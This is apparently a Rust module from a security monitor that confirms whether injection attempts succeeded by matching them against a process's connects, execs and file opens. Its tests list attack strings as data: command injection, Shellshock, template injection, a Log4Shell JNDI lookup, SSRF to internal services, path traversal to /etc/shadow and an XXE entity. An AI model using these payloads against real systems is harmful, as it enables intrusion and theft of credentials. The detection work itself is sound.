//! What of a process's acts proves that an attempt worked (DETECTION 1.4): a connect to the address
//! that the value names, a program that runs the value's text, a file opened by the value's path.
//!
//! That something was done meanwhile proves nothing: other requests are served at the same time. So
//! the act must hold the value. Addresses count as they are written, in whichever notation, and
//! `localhost`; other names are not resolved, since what they stood for is not known here.

use std::net::{IpAddr, Ipv4Addr};

use super::text::{at, find, from, is_space, slice, trim};
use super::url;
use crate::capture::{Act, Deed};
use crate::exchange::ScoreHit;

/// Addresses that one value may name.
const ADDRESSES_MAX: usize = 4;

/// Shortest text of a program that is recognised in a value.
const TEXT_BYTES: usize = 2;

/// Ports of schemes that are named without one.
const PORTS: &[(&str, u16)] = &[
    ("dict", 2628),
    ("dns", 53),
    ("ftp", 21),
    ("gopher", 70),
    ("http", 80),
    ("https", 443),
    ("iiop", 535),
    ("imap", 143),
    ("ldap", 389),
    ("ldaps", 636),
    ("rmi", 1099),
    ("sftp", 22),
    ("smb", 445),
    ("ssh", 22),
    ("ws", 80),
    ("wss", 443),
];

/// Files that the C library opens by itself, for names of users, hosts and services.
const LIBRARY_FILES: &[&str] = &[
    "etc/gai.conf",
    "etc/group",
    "etc/host.conf",
    "etc/hosts",
    "etc/ld.so.cache",
    "etc/localtime",
    "etc/nsswitch.conf",
    "etc/passwd",
    "etc/protocols",
    "etc/resolv.conf",
    "etc/services",
];

/// Programs that read commands from an argument.
const SHELLS: &[&str] = &["ash", "bash", "busybox", "dash", "ksh", "sh", "zsh"];

/// What an attempt would have the server do.
#[derive(Debug, Default)]
pub struct Effect<'h> {
    addresses: Vec<(IpAddr, u16)>,
    files: Vec<File>,
    /// Text that would run.
    command: Option<&'h [u8]>,
}

/// A file that would be opened.
#[derive(Debug)]
struct File {
    /// The path from its first step upwards, as it was sent; empty if it has none.
    sent: Vec<u8>,
    /// The path from the root, if it leads there.
    absolute: Option<Vec<u8>>,
}

impl<'h> Effect<'h> {
    /// What would come of `hit`; `None` if a process's acts cannot show it.
    #[must_use]
    pub fn of(hit: &'h ScoreHit) -> Option<Self> {
        let text = trim(&hit.fragment);
        let low = text.to_ascii_lowercase();
        let mut effect = Self::default();
        match hit.detector {
            "inj-03" | "inj-07" | "inj-12" | "inj-14" => {
                effect.command = Some(text).filter(|text| text.len() >= TEXT_BYTES);
            }
            "inj-04" => {
                effect.addresses(&low);
                effect.path(text);
                effect.named_files(text, &low);
            }
            "inj-05" | "inj-08" | "inj-09" => {
                effect.addresses(&low);
                effect.named_files(text, &low);
                if hit.detector == "inj-05" && effect.addresses.is_empty() {
                    effect.bare_address(&low);
                }
            }
            _ => return None,
        }
        (effect.command.is_some() || !effect.addresses.is_empty() || !effect.files.is_empty())
            .then_some(effect)
    }

    /// Whether `act` is that.
    #[must_use]
    pub fn is(&self, act: &Act) -> bool {
        match &act.deed {
            Deed::Connect { remote } => self.addresses.iter().any(|wanted| same(*wanted, *remote)),
            Deed::Open { path } => self.files.iter().any(|file| file.is(path)),
            Deed::Exec { program, arguments } => self
                .command
                .is_some_and(|text| runs(text, program, arguments)),
        }
    }

    /// Addresses behind `://`.
    fn addresses(&mut self, low: &[u8]) {
        for place in memchr::memmem::find_iter(low, b"://").take(ADDRESSES_MAX) {
            let before = slice(low, 0, place);
            let letters = before
                .iter()
                .rev()
                .take_while(|byte| byte.is_ascii_alphanumeric());
            let scheme = from(before, place - letters.count());
            let port = PORTS.iter().find(|(name, _)| name.as_bytes() == scheme);
            self.address(from(low, place + 3), port.map(|(_, port)| *port).as_slice());
        }
    }

    /// An address without a scheme: what asks for it takes one of the two.
    fn bare_address(&mut self, low: &[u8]) {
        let lead = low.iter().take_while(|byte| matches!(byte, b'/' | b'\\'));
        self.address(from(low, lead.count()), &[80, 443]);
    }

    fn address(&mut self, rest: &[u8], ports: &[u16]) {
        let (host, behind) = url::host_and_rest(rest);
        let Some(address) = url::address(host) else {
            return;
        };
        let digits = behind.strip_prefix(b":").map(|digits| {
            let end = digits.iter().take_while(|byte| byte.is_ascii_digit());
            slice(digits, 0, end.count())
        });
        let given = digits.and_then(|digits| str::from_utf8(digits).ok()?.parse().ok());
        match given {
            Some(port) => self.addresses.push((address, port)),
            None => self
                .addresses
                .extend(ports.iter().map(|port| (address, *port))),
        }
    }

    /// Files by `file:`, and by the filters of PHP.
    fn named_files(&mut self, text: &[u8], low: &[u8]) {
        for scheme in ["file:", "resource="] {
            let Some(place) = find(low, scheme) else {
                continue;
            };
            let rest = from(text, place + scheme.len());
            let end = rest.iter().position(|byte| {
                is_space(*byte) || matches!(byte, b'"' | b'\'' | b'>' | b'}' | b'<' | b'&')
            });
            let path = slice(rest, 0, end.unwrap_or(rest.len()));
            let path = path.strip_prefix(b"//localhost").unwrap_or(path);
            let slashes = path.iter().take_while(|byte| **byte == b'/').count();
            self.path(from(path, slashes.saturating_sub(1)));
        }
    }

    /// A path that climbs, or begins at the root.
    fn path(&mut self, text: &[u8]) {
        let mut path: Vec<u8> = text
            .iter()
            .map(|byte| if *byte == b'\\' { b'/' } else { *byte })
            .collect();
        // What C takes for the end of a text is one to the server too.
        path.truncate(memchr::memchr(0, &path).unwrap_or(path.len()));
        let sent = memchr::memmem::find(&path, b"../").map_or(&b""[..], |up| from(&path, up));
        let (steps, climbs) = resolve(&path);
        let rooted = climbs > 0 || path.first() == Some(&b'/');
        let absolute = (rooted && !steps.is_empty()).then(|| steps.join(&b'/'));
        if !sent.is_empty() || absolute.is_some() {
            let sent = sent.to_vec();
            self.files.push(File { sent, absolute });
        }
    }
}

impl File {
    /// Whether `path` was opened for it: it holds the climbing path as it was sent, or leads to the
    /// same file from the root. Of what the C library opens itself only the former counts.
    fn is(&self, path: &[u8]) -> bool {
        if !self.sent.is_empty() && memchr::memmem::find(path, &self.sent).is_some() {
            return true;
        }
        let Some(wanted) = self
            .absolute
            .as_ref()
            .filter(|_| path.first() == Some(&b'/'))
        else {
            return false;
        };
        let own = LIBRARY_FILES.iter().any(|file| file.as_bytes() == *wanted);
        let plain = memchr::memmem::find(path, b"../").is_none();
        resolve(path).0.join(&b'/') == *wanted && !(own && plain)
    }
}

/// The steps of a path without those that undo each other, and how many lead above where it begins.
fn resolve(path: &[u8]) -> (Vec<&[u8]>, usize) {
    let mut steps: Vec<&[u8]> = Vec::new();
    let mut climbs = 0;
    for step in path.split(|byte| *byte == b'/') {
        match step {
            b"" | b"." => {}
            b".." => climbs += usize::from(steps.pop().is_none()),
            step => steps.push(step),
        }
    }
    (steps, climbs)
}

/// Whether a connect went where it was to go. No address at all, and the name of this host, is any
/// of its own.
fn same(wanted: (IpAddr, u16), remote: (IpAddr, u16)) -> bool {
    let own = wanted.0.is_unspecified() || wanted.0 == IpAddr::V4(Ipv4Addr::LOCALHOST);
    wanted.1 == remote.1 && (wanted.0 == remote.0 || own && remote.0.is_loopback())
}

/// Whether a program runs `text`.
fn runs(text: &[u8], program: &[u8], arguments: &[u8]) -> bool {
    let words: Vec<&[u8]> = arguments
        .strip_suffix(b"\0")
        .unwrap_or(arguments)
        .split(|byte| *byte == 0)
        .collect();
    let name = program
        .rsplit(|byte| *byte == b'/')
        .next()
        .unwrap_or(program);
    let is_shell = SHELLS.iter().any(|shell| shell.as_bytes() == name);
    let script = words
        .iter()
        .position(|word| word.starts_with(b"-") && word.ends_with(b"c"));
    match script
        .and_then(|flag| words.get(flag + 1))
        .filter(|_| is_shell)
    {
        Some(script) => is_live(script, text) || is_quoted(text, script),
        None => {
            let line = words.join(&b' ');
            let wanted: Vec<&[u8]> = text
                .split(|byte| is_space(*byte))
                .filter(|word| !word.is_empty())
                .collect();
            wanted.len() > 1 && wanted.join(&b' ') == line || is_quoted(text, &line)
        }
    }
}

/// Whether `text` stands in a shell's `script` where the shell acts on it: not between quotes that it
/// does not end.
fn is_live(script: &[u8], text: &[u8]) -> bool {
    let Some(place) = memchr::memmem::find(script, text) else {
        return false;
    };
    let mut quote = 0;
    let mut bytes = slice(script, 0, place).iter();
    while let Some(byte) = bytes.next() {
        match (quote, byte) {
            (0 | b'"', b'\\') => {
                bytes.next();
            }
            (0, b'\'' | b'"') => quote = *byte,
            (quoted, byte) if quoted == *byte => quote = 0,
            _ => {}
        }
    }
    match quote {
        b'\'' => text.contains(&b'\''),
        b'"' => text.contains(&b'"') || text.contains(&b'`') || find(text, "$(").is_some(),
        _ => true,
    }
}

/// Whether `line` is what code in `text` gives to a shell: a text between quotes, or what stands
/// behind a definition that an old shell takes for a function.
fn is_quoted(text: &[u8], line: &[u8]) -> bool {
    let line = trim(line);
    let function = find(text, "() {").is_some();
    line.len() >= TEXT_BYTES
        && memchr::memmem::find_iter(text, line).any(|place| {
            let before = place.checked_sub(1).map_or(0, |place| at(text, place));
            let behind = at(text, place + line.len());
            let quotes = |byte| matches!(byte, b'\'' | b'"');
            let ends = |byte| byte == b';' || is_space(byte);
            quotes(before) && quotes(behind)
                || function && line.contains(&b'/') && ends(before) && ends(behind)
        })
}

/// `act` in words, for evidence.
#[must_use]
pub fn in_words(act: &Act) -> String {
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    let pid = act.tgid;
    match &act.deed {
        Deed::Exec { program, .. } => format!("child process {} ({pid})", text(program)),
        Deed::Connect {
            remote: (address, port),
        } => {
            let remote = std::net::SocketAddr::new(*address, *port);
            format!("connection to {remote} by process {pid}")
        }
        Deed::Open { path } => format!("file {} opened by process {pid}", text(path)),
    }
}

#[cfg(test)]
mod tests {
    use std::net::SocketAddr;

    use super::Effect;
    use crate::capture::{Act, Deed};
    use crate::clock::Ktime;
    use crate::content::{Container, Layers};
    use crate::exchange::ScoreHit;

    fn execs(words: &[&str]) -> Deed {
        Deed::Exec {
            program: words[0].into(),
            arguments: words
                .iter()
                .flat_map(|word| [word.as_bytes(), b"\0"].concat())
                .collect(),
        }
    }

    fn shell(script: &str) -> Deed {
        execs(&["/bin/sh", "-c", script])
    }

    fn connects(to: &str) -> Deed {
        let to: SocketAddr = to.parse().unwrap();
        Deed::Connect {
            remote: (to.ip(), to.port()),
        }
    }

    fn opens(path: &str) -> Deed {
        Deed::Open { path: path.into() }
    }

    #[track_caller]
    fn check(detector: &'static str, value: &str, deed: Deed, expected: bool) {
        let hit = ScoreHit {
            detector,
            rule: "",
            score: 5,
            part: "request.query.q".into(),
            container: Container::Target,
            range: 0..0,
            fragment: value.as_bytes().into(),
            layers: Layers::NONE,
            proof: "",
        };
        let act = Act {
            time: Ktime(0),
            server: 7,
            tgid: 8,
            tid: 8,
            deed,
        };
        let found = Effect::of(&hit).is_some_and(|effect| effect.is(&act));
        assert_eq!(found, expected, "{value}: {:?}", act.deed);
    }

    #[test]
    fn a_shell_proves_what_it_acts_on() {
        check(
            "inj-03",
            "127.0.0.1;id",
            shell("ping -c1 127.0.0.1;id"),
            true,
        );
        check(
            "inj-03",
            "127.0.0.1;id",
            shell("ping -c1 '127.0.0.1;id'"),
            false,
        );
        check(
            "inj-03",
            "127.0.0.1;id",
            shell("ping -c1 \"127.0.0.1;id\""),
            false,
        );
        check("inj-03", "$(id)", shell("echo \"$(id)\""), true);
        check("inj-03", "x';id;'", shell("echo 'x';id;''"), true);
        check("inj-03", "127.0.0.1;id", shell("uptime"), false);
        check(
            "inj-03",
            "127.0.0.1;id",
            execs(&["ping", "127.0.0.1;id"]),
            false,
        );
        check("inj-03", "127.0.0.1;id", execs(&["id"]), false);
        check(
            "inj-03",
            "cat /etc/passwd",
            execs(&["cat", "/etc/passwd"]),
            true,
        );
        check("inj-07", "{{x.popen('id').read()}}", shell("id"), true);
        check("inj-07", "{{x.popen('id').read()}}", shell("df"), false);
        check("inj-14", "() { :;}; /bin/id", execs(&["/bin/id"]), true);
        check("inj-01", "1;id", shell("1;id"), false);
    }

    #[test]
    fn a_connect_proves_the_address_it_goes_to() {
        check(
            "inj-05",
            "http://127.0.0.1:6379/",
            connects("127.0.0.1:6379"),
            true,
        );
        check(
            "inj-05",
            "http://2130706433:6379/",
            connects("127.0.0.1:6379"),
            true,
        );
        check(
            "inj-05",
            "http://localhost:6379/",
            connects("[::1]:6379"),
            true,
        );
        check(
            "inj-05",
            "http://user@[::1]:81/x",
            connects("[::1]:81"),
            true,
        );
        check("inj-05", "http://10.0.0.7/", connects("10.0.0.7:80"), true);
        check("inj-05", "10.0.0.7:8080/x", connects("10.0.0.7:8080"), true);
        check(
            "inj-05",
            "http://127.0.0.1:6379/",
            connects("127.0.0.1:6380"),
            false,
        );
        check(
            "inj-05",
            "http://127.0.0.1:6379/",
            connects("10.0.0.1:6379"),
            false,
        );
        check(
            "inj-05",
            "http://db.internal:6379/",
            connects("10.0.0.1:6379"),
            false,
        );
        check(
            "inj-09",
            "${jndi:ldap://10.0.0.7:1389/a}",
            connects("10.0.0.7:1389"),
            true,
        );
        check(
            "inj-04",
            "http://10.0.0.7/shell.txt",
            connects("10.0.0.7:80"),
            true,
        );
        check("inj-03", "http://10.0.0.7/", connects("10.0.0.7:80"), false);
    }

    #[test]
    fn an_open_proves_the_path_it_goes_by() {
        let up = "../../../etc/shadow";
        check("inj-04", up, opens("/srv/files/../../../etc/shadow"), true);
        check("inj-04", up, opens("files/../../../etc/shadow"), true);
        check("inj-04", up, opens("/etc/shadow"), true);
        check("inj-04", up, opens("/srv/etc/shadow"), false);
        check("inj-04", up, opens("/etc/hosts"), false);
        check("inj-04", "../../../etc/passwd", opens("/etc/passwd"), false);
        check(
            "inj-04",
            "../../../etc/passwd",
            opens("/srv/a/b/../../../etc/passwd"),
            true,
        );
        check("inj-04", "../keys\0.png", opens("/srv/files/../keys"), true);
        check("inj-04", "file:///etc/shadow", opens("/etc/shadow"), true);
        let entity = "<!ENTITY x SYSTEM \"file:///etc/hostname\">";
        check("inj-08", entity, opens("/etc/hostname"), true);
        check("inj-08", entity, opens("/etc/hostnames"), false);
        check("inj-05", up, opens("/etc/shadow"), false);
    }
}
